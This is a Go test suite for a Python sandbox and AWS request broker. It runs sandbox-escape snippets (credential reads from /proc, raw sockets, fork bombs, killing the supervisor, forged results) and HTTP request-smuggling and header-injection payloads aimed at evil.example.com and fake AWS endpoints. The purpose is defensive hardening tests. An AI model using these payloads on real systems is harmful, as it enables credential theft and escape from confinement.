package sandbox

import (
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/broker"
)

// disarm replaces the code of the audit hook, as native code can, through a reference that only the tests keep (see
// keepHook). The other layers must protect without the hook.
const disarm = `import gc, importlib
from alarmtriage_tool import guard
guard.hook_of_test.__code__ = (lambda *a: None).__code__
print("disarmed")
import ctypes, signal, socket, struct, subprocess, threading
libc = ctypes.CDLL(None, use_errno=True)
def native(name, *args):
    value = getattr(libc, name)(*args)
    return "done" if value >= 0 else os.strerror(ctypes.get_errno())
def attempt(f, *args, **kwargs):
    try: return f"done {f(*args, **kwargs)!r}"
    except Exception as e: return f"{type(e).__name__}: {e}"
`

const refusedByKernel = "Operation not permitted"

// bypass is hostile code that runs without the audit hook, and its expected output in both configurations. If
// the expected text is empty, any output is accepted as long as it contains no secret and the next call
// works.
type bypass struct {
	name     string
	code     string
	full     string // in the answer where seccomp and Landlock are active
	degraded string // in the answer where the kernel refuses both
	lost     bool   // where the kernel refuses both, the code may kill the zygote, and the call has no answer
	endless  bool   // ends only at the time limit
}

var bypasses = []bypass{
	{name: "credentials: the supervisor's and the zygote's environment", full: "PermissionError", degraded: "PermissionError", code: `
read = lambda pid: open(f"/proc/{pid}/environ", "rb").read()
tried = [attempt(read, pid) for pid in (os.getppid(), os.getppid() - 1, 1)]
assert not any(t.startswith("done") for t in tried), tried
print(tried)`},
	{name: "credentials: files of every process", code: leak + "print(hunt())"},
	{name: "credentials: memory of the parent", full: "PermissionError", degraded: "PermissionError", code: `
print(attempt(lambda: open(f"/proc/{os.getppid()}/mem", "r+b")))`},
	{name: "credentials: own memory through /proc", full: "PermissionError", degraded: "PermissionError", code: `
print(attempt(lambda: open("/proc/self/mem", "r+b")))`},
	{name: "credentials: objects and environment of this process", code: `
print(len([o for o in gc.get_objects() if "pla" + "nted" in repr(type(o))]))
print([v for v in os.environ.values()], [str(boto3.Session().get_credentials().get_frozen_credentials())])`, full: broker.DummyAccessKey, degraded: broker.DummyAccessKey},

	{name: "network: a socket", full: "PermissionError: [Errno 1]", degraded: "done <socket", code: `
print(attempt(socket.socket, socket.AF_INET, socket.SOCK_STREAM))`},
	{name: "network: a local socket by name", full: refusedByKernel, degraded: "done", code: `print(native("socket", 1, 1, 0))`},
	{name: "network: a socket through the x32 system call table", full: refusedByKernel, code: `
import platform
print(native("syscall", 0x40000000 | 41 if platform.machine() == "x86_64" else 198, 2, 1, 0))`},
	{name: "network: io_uring", full: "Function not implemented", code: `print(native("syscall", 425, 8, ctypes.create_string_buffer(120)))`},
	{name: "processes: an in-memory program", full: refusedByKernel, degraded: "done", code: `print(native("memfd_create", b"x", 0))`},
	{name: "processes: a new namespace", full: refusedByKernel, degraded: refusedByKernel, code: `print(native("unshare", 0x10000000))`},
	{name: "network: packet and netlink sockets", full: "PermissionError: [Errno 1]", code: `
for family, kind in ((17, 3), (16, 3), (40, 1), (2, 3), (1, 1)): print(attempt(socket.socket, family, kind, 0))`},
	{name: "network: removing the filter", full: "PermissionError: [Errno 1]", code: `
print(native("prctl", 22, 0, 0, 0, 0), native("prctl", 38, 0, 0, 0, 0), attempt(socket.socket))`},
	{name: "network: a socket in another thread", full: "PermissionError: [Errno 1]", code: `
t = threading.Thread(target=lambda: print(attempt(socket.socket))); t.start(); t.join()`},
	{name: "network: the broker refuses other hosts", full: "not an AWS API endpoint", degraded: "not an AWS API endpoint", code: `
print(attempt(boto3.client("logs", endpoint_url="https://evil.example.com").describe_log_groups))`},
	{name: "network: the broker still refuses writes", full: "logs:DeleteLogGroup is refused", degraded: "logs:DeleteLogGroup is refused", code: `
print(attempt(boto3.client("logs").delete_log_group, logGroupName="g"))`},

	{name: "processes: fork", full: "PermissionError: [Errno 1]", degraded: "forked", code: `
try:
    if os.fork() == 0: time.sleep(600)
    print("forked")
except OSError as e: print(repr(e), "PermissionError: [Errno 1]")`},
	{name: "processes: a daemon", full: "PermissionError", degraded: "away", code: `
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            while True: time.sleep(1)
        os._exit(0)
    print("away")
except OSError as e: print(repr(e))`},
	{name: "processes: fork bomb", full: "stopped", degraded: "stopped", code: `
n = 0
while n < 3000:
    try: pid = os.fork()
    except OSError: break
    if pid == 0: time.sleep(600)
    n += 1
print("stopped" if n < 1000 else "never stopped")`},
	{name: "processes: spawning a program", full: "PermissionError", degraded: "AWS_ACCESS_KEY_ID=" + broker.DummyAccessKey, code: `
try: os.waitpid(os.posix_spawn("/usr/bin/env", ["env"], os.environ), 0)
except OSError as e: print(type(e).__name__)`},
	{name: "processes: exec of a program", full: "PermissionError", degraded: "Crashed", code: `
try: os.execve("/bin/sh", ["sh", "-c", "exit 3"], {})
except OSError as e: print(type(e).__name__)`},
	{name: "processes: fork_exec imported again", full: "PermissionError", code: `
del sys.modules["_posixsubprocess"]
import _posixsubprocess
subprocess._fork_exec = _posixsubprocess.fork_exec
print(attempt(subprocess.run, ["/usr/bin/env"], capture_output=True))
print(attempt(os.posix_spawn, "/usr/bin/env", ["env"], {}))`},
	{name: "processes: kill the zygote", full: "PermissionError", lost: true, code: `
print("before", flush=True)
print(attempt(os.kill, os.getppid(), 9))`},
	{name: "processes: stop the zygote", full: "PermissionError", lost: true, code: `
print("before", flush=True)
print(attempt(os.kill, os.getppid(), signal.SIGSTOP))`},
	{name: "memory: raising the limit", full: "ValueError", degraded: "ValueError", code: `
import resource
print(attempt(resource.setrlimit, resource.RLIMIT_DATA, (-1, -1)))`},
	{name: "memory: native write to an invalid address", code: `ctypes.memset(1, 0, 1)`, full: "segmentation", degraded: "segmentation"},

	{name: "time: alarms blocked in native code", full: "begun", degraded: "begun", endless: true, code: `
libc.sigfillset.argtypes = [ctypes.c_void_p]
mask = ctypes.create_string_buffer(128)
libc.sigfillset(mask); libc.sigprocmask(0, mask, None)
print("begun", flush=True)
while True: pass`},
	{name: "time: native code that never returns", full: "begun", degraded: "begun", endless: true, code: `
print("begun", flush=True)
libc.pause.restype = ctypes.c_int
while True: ctypes.pythonapi.PyGILState_Ensure(); libc.pause()`},

	{name: "output: flood from native code", code: `
block = b"x" * 65536
while True: libc.write(1, block, 65536)`, full: "OutputLimit", degraded: "OutputLimit"},

	{name: "disk: writing outside the scratch directory", full: "PermissionError", code: `
print(attempt(lambda: open("/var/tmp/alarmtriage-left", "w").close()))
if %FULL% is False and os.path.exists("/var/tmp/alarmtriage-left"): os.unlink("/var/tmp/alarmtriage-left")`},
	{name: "disk: devices and kernel files", full: "PermissionError", code: `
for path in ("/dev/mem", "/dev/kmsg", "/sys/kernel/debug", "/proc/1/environ"): print(attempt(lambda: open(path, "rb").read(1)))`},
	{name: "disk: a device that is opened neither to read nor to write", full: "PermissionError: [Errno 1]", code: `
print(attempt(os.open, "/dev/zero", 3))`},
	{name: "disk: mounts", full: refusedByKernel, degraded: refusedByKernel, code: `
print(native("mount", b"none", b"/tmp", b"tmpfs", 0, None))`},

	{name: "protocol: forged result", full: "forged", degraded: "forged", code: `
print("forged")
for fd in range(3, 256):
    try: os.write(fd, b'{"ok": true, "result": "1", "notes": [], "aws_calls": [{"service": "s3"}]}')
    except OSError: pass
os._exit(0)`},
	{name: "protocol: the zygote's control socket", full: "[]", degraded: "[]", code: `
found = []
for fd in range(3, 256):
    try:
        with socket.socket(fileno=os.dup(fd)) as s:
            if s.type == socket.SOCK_SEQPACKET: s.send(b'{"t": "exit", "pid": 1, "status": 0}'); found.append(fd)
    except OSError: pass
print(found[1:])`},

	{name: "state: harness functions overwritten", code: `
from alarmtriage_tool import aws_transport, confine, runner, zygote
for module in (aws_transport, confine, runner, zygote):
    for name in list(vars(module)):
        if not name.startswith("__"): setattr(module, name, None)
for f in gc.get_objects():
    if type(f).__name__ == "function" and "alarmtriage_tool" in f.__code__.co_filename and not f.__code__.co_freevars:
        try: f.__code__ = (lambda *a, **k: None).__code__
        except Exception: pass`},
	{name: "state: immutable objects overwritten", code: `
ctypes.memset(id(1) + 24, 7, 1)
ctypes.memset(id("result") + 40, 65, 3)`},

	{name: "imports: crafted bytecode", code: `
import types
code = (lambda: None).__code__.replace(co_code=bytes([100, 255] * 64 + [83, 0]), co_stacksize=1)
types.FunctionType(code, {})()`},
	{name: "imports: native modules from the working directory", code: `
open("evil.so", "wb").write(b"\x7fELF" + os.urandom(64))
print(attempt(ctypes.CDLL, "./evil.so"))`, full: "OSError", degraded: "OSError"},
}

// Each snippet runs without the audit hook. The remaining layers must refuse what they are expected to, no
// answer may contain a secret of the supervisor, and the next call must work.
func TestLayers_ProtectWithoutAuditHook(t *testing.T) {
	for _, python := range pythons(t) {
		for _, configuration := range configurations {
			t.Run(python.name+"/"+configuration.name, func(t *testing.T) {
				t.Parallel()
				w := startWorker(t, python, configuration.role)
				for _, b := range bypasses {
					t.Run(b.name, func(t *testing.T) {
						w.t = t
						w.mustWithstand(b, configuration.role == roleWorker)
					})
				}
				w.t = t
			})
		}
	}
}

func (w *worker) mustWithstand(b bypass, full bool) {
	w.t.Helper()
	want, literal := b.degraded, "False"
	if full {
		want, literal = b.full, "True"
	}
	seconds := 20.0 // not a limit that a busy machine reaches
	if b.endless {
		seconds = 2
	}
	answer := w.run(disarm+strings.ReplaceAll(b.code, "%FULL%", literal), seconds)
	text := answer.Output + answer.ErrorType
	if !b.lost || full {
		require.NotEqual(w.t, "HarnessLost", answer.ErrorType, answer.Error)
		assert.Contains(w.t, answer.Output, "disarmed", "the hook must be removed first")
		assert.Contains(w.t, text, want)
	} else {
		require.Eventually(w.t, func() bool { return w.run("1+1", 10).Success }, 20*time.Second, time.Millisecond)
	}
	w.mustWork()
	w.mustBeClean()
}

// The code may write anything to its connections to the broker. Only requests that the broker identified as
// reads may arrive at AWS.
func TestSession_ForgedRequestsReachAWSOnlyAsReads(t *testing.T) {
	const setup = disarm + `
from alarmtriage_tool import aws_transport
scope = "AWS4-HMAC-SHA256 Credential=` + broker.DummyAccessKey + `/20260102/eu-west-1/%s/aws4_request, SignedHeaders=host, Signature=00"
def send(method, path, headers, body=b"", service="sts", n=None, url=None):
    c = aws_transport._channel.take()
    head = {"m": method, "u": url or os.environ["AWS_ENDPOINT_URL"] + path, "h": [["Authorization", scope % service]] + headers, "n": len(body) if n is None else n}
    data = json.dumps(head).encode()
    c.send(struct.pack("<I", len(data)) + data + body)
    try: answer = aws_transport._read_head(c, "u")
    except Exception as e: answer = {"e": type(e).__name__}
    c.close()
    return answer
form = [["Content-Type", "application/x-www-form-urlencoded"]]
read, write = b"Action=GetCallerIdentity&Version=2011-06-15", b"Action=AssumeRole&Version=2011-06-15"
`
	type forged struct {
		name, code string
		arrives    int    // requests at AWS; each must be the read
		output     string // in the answer
	}
	for _, python := range pythons(t) {
		t.Run(python.name, func(t *testing.T) {
			aws := &fakeAWS{}
			server := httptest.NewServer(aws)
			t.Cleanup(server.Close)
			w := startWorker(t, python, roleWorker, server.URL)
			for _, f := range []forged{
				{"a plain read passes", `send("POST", "/", form, read)`, 1, "'s': 200"},
				{"a write", `send("POST", "/", form, write)`, 0, "sts:AssumeRole is refused"},
				{"a write with another Host header", `send("POST", "/", form + [["Host", "evil.example.com"]], write)`, 0, "sts:AssumeRole is refused"},
				{"another Host header is not sent", `send("POST", "/", form + [["Host", "evil.example.com"]], read)`, 1, ""},
				{"a JSON write and a form read in one request", `send("POST", "/", form + [["X-Amz-Target", "AmazonSSM.PutParameter"]], read)`, 0, "only forwards operations it knows"},
				{"two targets", `send("POST", "/", [["Content-Type", "application/x-amz-json-1.1"], ["X-Amz-Target", "Logs_20140328.DescribeLogGroups"], ["x-amz-target", "Logs_20140328.DeleteLogGroup"]], b"{}", "logs")`, 0, "ambiguous"},
				{"two content types", `send("POST", "/", form + [["content-type", "application/x-amz-json-1.1"]], read)`, 0, "ambiguous"},
				{"two signatures", `send("POST", "/", form + [["authorization", scope % "iam"]], read)`, 0, "ambiguous"},
				{"another method by header", `send("POST", "/", form + [["X-HTTP-Method-Override", "DELETE"]], read)`, 0, "ambiguous"},
				{"another method", `send("DELETE", "/2015-03-31/functions/f", [], b"", "lambda")`, 0, "lambda:DeleteFunction is refused"},
				{"a method with a second request in it", `send("POST / HTTP/1.1\r\nHost: x\r\n\r\nDELETE", "/", form, read)`, 0, ""},
				{"a header with a second request in it", `send("POST", "/", form + [["X-A", "b\r\n\r\nPOST / HTTP/1.1\r\n\r\n"]], read)`, 0, ""},
				{"a line break in a header name", `send("POST", "/", form + [["X-A: b\r\nX-Amz-Target", "x"]], read)`, 0, ""},
				{"a line break in the URL", `send("POST", "/x HTTP/1.1\r\nX: y", form, read)`, 0, ""},
				{"a length that is too short", `send("POST", "/", form + [["Content-Length", "3"]], read + b"\r\n\r\nPOST / HTTP/1.1\r\n\r\n")`, 1, "'s': 200"},
				{"a length that is wrong is not sent", `send("POST", "/", form + [["Content-Length", "3"]], read)`, 1, "'s': 200"},
				{"chunks and a length", `send("POST", "/", form + [["Transfer-Encoding", "chunked"], ["Content-Length", "5"]], b"0\r\n\r\nPOST / HTTP/1.1\r\nHost: x\r\n\r\n" + write)`, 0, ""},
				{"chunks that end early", `send("POST", "/", form + [["Transfer-Encoding", "chunked"]], b"0\r\n\r\nDELETE /2015-03-31/functions/f HTTP/1.1\r\n\r\n", "lambda")`, 0, "only forwards operations it knows"},
				{"a protocol upgrade", `send("GET", "/", [["Connection", "Upgrade"], ["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"]])`, 0, "only forwards operations it knows"},
				{"a compressed body", `send("POST", "/", form + [["Content-Encoding", "gzip"]], gzip.compress(write))`, 0, "ambiguous"},
				{"a write in the query string of a read", `send("POST", "/?Action=AssumeRole", form, read)`, 0, "only forwards operations it knows"},
				{"two actions", `send("POST", "/", form, read + b"&Action=AssumeRole")`, 0, "only forwards operations it knows"},
				{"an action that is encoded twice", `send("POST", "/", form, b"Action=%2541ssumeRole")`, 0, "only forwards operations it knows"},
				{"a path with ..", `send("GET", "/2015-03-31/functions/f/../../../x", [], b"", "lambda")`, 0, ""},
				{"a path with encoded ..", `send("DELETE", "/2015-03-31/functions/%2e%2e/f", [], b"", "lambda")`, 0, ""},
				{"two requests in one body", `send("POST", "/", form, read + b"POST / HTTP/1.1\r\n\r\n" + b"&x=1")`, 1, "'s': 200"},
				{"a body shorter than announced", `(lambda c: (c.send(struct.pack("<I", 4) + b"{}{}"), c.close()))(aws_transport._channel.take())`, 0, ""},
				{"a head without an end", `(lambda c: (c.send(struct.pack("<I", 4294967295) + b"x"), attempt(c.exactly, 4, "u")))(aws_transport._channel.take())`, 0, "ConnectionClosedError"},
				{"a negative body length", `send("POST", "/", form, read, n=-1)`, 0, "ConnectionClosedError"},
				{"a body length of 1 TB", `send("POST", "/", form, b"", n=1 << 40)`, 0, "ConnectionClosedError"},
				{"a head that is not an object", `(lambda c: (c.send(struct.pack("<I", 2) + b"[]"), attempt(c.exactly, 4, "u")))(aws_transport._channel.take())`, 0, "ConnectionClosedError"},
				{"a file instead of a connection", `(lambda s: (socket.send_fds(s, [b"C"], [os.open("x", os.O_RDWR | os.O_CREAT)]), send("POST", "/", form, read)))(socket.socket(fileno=os.dup(aws_transport._channel._control)))[1]`, 1, "'s': 200"},
				{"many connections in one message", `(lambda s: (socket.send_fds(s, [b"C"] , [os.dup(1) for _ in range(12)]), send("POST", "/", form, read)))(socket.socket(fileno=os.dup(aws_transport._channel._control)))[1]`, 1, "'s': 200"},
				{"a write with a session token", `send("POST", "/", [["Content-Type", "application/x-www-form-urlencoded"], ["X-Amz-Security-Token", "t"]], write)`, 0, "sts:AssumeRole is refused"},
				{"no signature", `send("PUT", "/bucket/key", [], b"x", "s3")`, 0, "s3:PutObject"},
				{"a URL with a user name and another host", `send("GET", "", [], b"", url="https://sts.amazonaws.com@evil.example.com/")`, 0, "e"},
			} {
				t.Run(f.name, func(t *testing.T) {
					w.t = t
					aws.mu.Lock()
					aws.seen = nil
					aws.mu.Unlock()

					answer := w.run(setup+"print("+f.code+")", 5)

					assert.True(t, answer.Success, answer.Output)
					assert.Contains(t, answer.Output, f.output)
					aws.mu.Lock()
					seen := aws.seen
					aws.mu.Unlock()
					assert.Len(t, seen, f.arrives)
					for _, r := range seen {
						assert.Equal(t, "POST /", r.Method+" "+r.URL.Path)
						assert.Equal(t, strings.TrimPrefix(server.URL, "http://"), r.Host)
						assert.GreaterOrEqual(t, r.ContentLength, int64(len("Action=GetCallerIdentity&Version=2011-06-15")))
						assert.Empty(t, r.TransferEncoding)
						assert.Contains(t, r.Header.Get("Authorization"), plantedKey)
					}
					w.mustWork()
				})
			}
			w.t = t
		})
	}
}

// Every kind of abuse has cases with the audit hook and without it.
func TestAbuses_CoverEveryKind(t *testing.T) {
	kinds := []string{"credentials", "network", "processes", "memory", "time", "output", "disk", "protocol", "state", "imports"}
	count := map[string]int{}
	names := map[string]bool{}
	note := func(suite, name string) {
		kind, _, named := strings.Cut(name, ": ")
		require.True(t, named, name)
		require.Contains(t, kinds, kind)
		require.False(t, names[suite+name], "twice: %s", name)
		names[suite+name] = true
		count[suite+kind]++
	}
	for _, a := range abuses {
		note("with the hook, ", a.name)
	}
	for _, b := range bypasses {
		note("without the hook, ", b.name)
	}
	for _, kind := range kinds {
		assert.GreaterOrEqual(t, count["with the hook, "+kind], 5, kind)
		assert.GreaterOrEqual(t, count["without the hook, "+kind], 1, kind)
	}
}
